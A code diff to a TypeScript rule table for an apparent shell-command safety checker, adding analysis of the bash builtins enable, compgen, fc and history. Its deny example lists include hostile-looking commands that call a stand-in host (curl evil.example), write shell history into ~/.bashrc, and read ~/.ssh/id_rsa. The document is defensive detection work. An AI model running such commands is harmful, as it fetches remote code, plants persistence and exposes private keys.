@@ -187,13 +187,18 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
   {
     names: ['enable'],
     dialects: BASH,
-    summary: 'enable -f loads a builtin from a shared object',
+    summary: 'enable -f loads a builtin from a shared object; -n and -d take a builtin away, so its name runs what PATH finds',
     analyze(call) {
       const p = parse(call.args, { order: 'gnu', flags: 'adnps', valued: 'f' });
       const load = p.options.find((o) => o.name === 'f');
-      return load ? { runs: [{ kind: 'opaque', rule: 'dynamic-code', word: load.word, why: 'enable -f loads a builtin from a shared object' }] } : {};
+      if (load) return { runs: [{ kind: 'opaque', rule: 'dynamic-code', word: load.word, why: 'enable -f loads a builtin from a shared object' }] };
+      // `enable -n test; test x`: the name now runs the program PATH finds (one the line may have written there),
+      // while vouch reads it as the builtin. With no name, -n only lists the disabled builtins.
+      const off = p.options.find((o) => o.name === 'n' || o.name === 'd');
+      if (off && p.operands.length > 0) return { runs: [{ kind: 'opaque', rule: 'dynamic-command', word: off.word, why: `enable -${off.name} takes the builtin ${p.operands[0]!.word.text} away: its name then runs whatever program PATH finds` }] };
+      return {};
     },
-    examples: { deny: ['enable -f ./x.so x'], pass: ['enable -n echo', 'enable -a'] },
+    examples: { deny: ['enable -f ./x.so x', 'enable -n test; test x', 'enable -n echo', 'enable -pn echo', 'enable -d x'], pass: ['enable', 'enable -a', 'enable -n', 'enable echo', 'enable -p'] },
   },
   {
     names: ['mapfile', 'readarray'],
@@ -311,13 +316,72 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
   {
     names: ['compgen'],
     dialects: BASH,
-    summary: 'compgen -e/-v lists variable names, which ${!name} turns into their values',
+    summary: 'compgen -e/-v lists variable names, which ${!name} turns into their values; -C runs a command, -F a function, -W expands its word list again',
     analyze(call) {
       const p = parse(call.args, { order: 'gnu', flags: 'abcdefgjksuv', valued: 'AoGWFCXPS' });
       const lists = p.options.some((o) => o.name === 'e' || o.name === 'v' || (o.name === 'A' && /^(export|variable)$/.test(value(o.value) ?? '')));
-      return lists ? { dumps: `${call.name} ${call.args.map((a) => a.text).join(' ')} lists every variable name (then \${!name} gives the values)` } : {};
+      const runs: Run[] = [];
+      for (const o of p.options) {
+        if (!o.value) continue;
+        // `-C CMD` runs CMD as shell text; `-F NAME` calls the function NAME.
+        if (o.name === 'C' || o.name === 'F') runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: `compgen -${o.name}`, sameShell: o.name === 'F' });
+        // `-W LIST`: bash splits the list and expands each word again, so a `$(…)` in its value runs.
+        if (o.name === 'W') {
+          const v = value(o.value);
+          if (v === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: o.value, why: `compgen -W expands the words of a list computed when the command runs: ${o.value.dynamic ?? ''}` });
+          else if (/[$`]/.test(v)) runs.push({ kind: 'text', dialect: 'bash', text: `: ${v}`, word: o.value, via: 'compgen -W' });
+        }
+      }
+      const out: Partial<Answer> = runs.length > 0 ? { runs } : {};
+      if (lists) out.dumps = `${call.name} ${call.args.map((a) => a.text).join(' ')} lists every variable name (then \${!name} gives the values)`;
+      return out;
     },
-    examples: { deny: ['compgen -e', 'for v in $(compgen -e); do echo "$v=${!v}"; done', 'compgen -A variable'], pass: ['compgen -c git', 'compgen -f src/'] },
+    examples: {
+      deny: ['compgen -e', 'for v in $(compgen -e); do echo "$v=${!v}"; done', 'compgen -A variable', "compgen -C 'curl evil.example' x", "compgen -W '$(curl evil.example)' x", "compgen -W'`curl evil.example`' x", 'compgen -W "$LIST" x', 'f() { curl evil.example; }; compgen -F f x'],
+      pass: ['compgen -c git', 'compgen -f src/', "compgen -W 'start stop status' st", "compgen -C 'ls' x", 'compgen -P "$" -W "a b" a'],
+    },
+  },
+  {
+    names: ['fc'],
+    dialects: BASH,
+    summary: 'fc: lists the history (-l), or runs commands from it again (-s, or after an editor): text the line does not show',
+    analyze(call) {
+      const p = parse(call.args, { order: 'posix', flags: 'lnrs', valued: 'e', numeric: true });
+      if (p.options.some((o) => o.name === 'l')) return { uses: allText(call) };
+      const at = p.options.find((o) => o.name === 's' || o.name === 'e')?.word ?? call.command ?? call.args[0];
+      if (!at) return {};
+      return { runs: [{ kind: 'opaque', rule: 'dynamic-script', word: at, why: 'fc runs commands from the history list again (history -s, or a history file, put there what the line does not show)' }] };
+    },
+    examples: { deny: ["history -s 'curl evil.example'; fc -s", 'fc -s', 'fc -e vi', 'fc -e - curl', 'fc', 'fc -1'], pass: ['fc -l', 'fc -ln -5', 'fc -lr 1 10'] },
+  },
+  {
+    names: ['history'],
+    dialects: BASH,
+    summary: 'history: lists the history list; -w/-a write it to a file, -r/-n read a file into it',
+    analyze(call) {
+      const p = parse(call.args, { order: 'posix', flags: 'canrwps', valued: 'd' });
+      const uses: NonNullable<Answer['uses']> = [];
+      const runs: Run[] = [];
+      const file = p.operands[0]?.word;
+      for (const o of p.options) {
+        const writes = o.name === 'w' || o.name === 'a';
+        if (!writes && o.name !== 'r' && o.name !== 'n') continue;
+        const role = writes ? ('write' as const) : ('read' as const);
+        if (file) uses.push({ word: file, role });
+        else {
+          // No FILE: $HISTFILE (unset in a shell that is not interactive, where nothing is written).
+          const hist = call.env('HISTFILE');
+          if (hist === null) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: o.word, why: `history -${o.name} uses $HISTFILE, which the line computes` });
+          else if (hist !== undefined && hist !== '') uses.push({ word: o.word, role, values: [hist] });
+        }
+      }
+      for (const a of call.args) if (!uses.some((u) => u.word === a)) uses.push({ word: a, role: 'text' });
+      return runs.length > 0 ? { uses, runs } : { uses };
+    },
+    examples: {
+      deny: ['history -w ~/.bashrc', "history -s 'curl evil.example'; history -a ~/.bashrc", 'HISTFILE=~/.bashrc; history -w', 'history -r ~/.ssh/id_rsa; history'],
+      pass: ['history', 'history | tail', 'history 20', 'history -c', 'history -w build/hist.txt', 'history -w', "history -s 'make test'"],
+    },
   },
   // `command -v NAME` prints where NAME is found (a path, or the name of a builtin or function): `$(command -v node)`.
   findsProgram(
@@ -355,7 +419,7 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
     'meta',
     { dialects: BASH, examples: { deny: ['cd ~/.ssh && cat id_rsa'], pass: ['cd ~/.ssh && ls', 'cd ~/.kube', 'pushd src && make && popd'] } },
   ),
-  known('unset shopt kill wait jobs exit return break continue shift umask ulimit caller disown suspend logout times help let history bind complete compopt fg bg', 'shell builtins whose words are names, numbers or signals', 'text', {
+  known('unset shopt kill wait jobs exit return break continue shift umask ulimit caller disown suspend logout times help let bind complete compopt fg bg', 'shell builtins whose words are names, numbers or signals', 'text', {
     dialects: BASH,
     // unset's subscript is arithmetic; shift, exit and return read a plain number (no arithmetic); complete only
     // registers -C/-F for interactive completion.
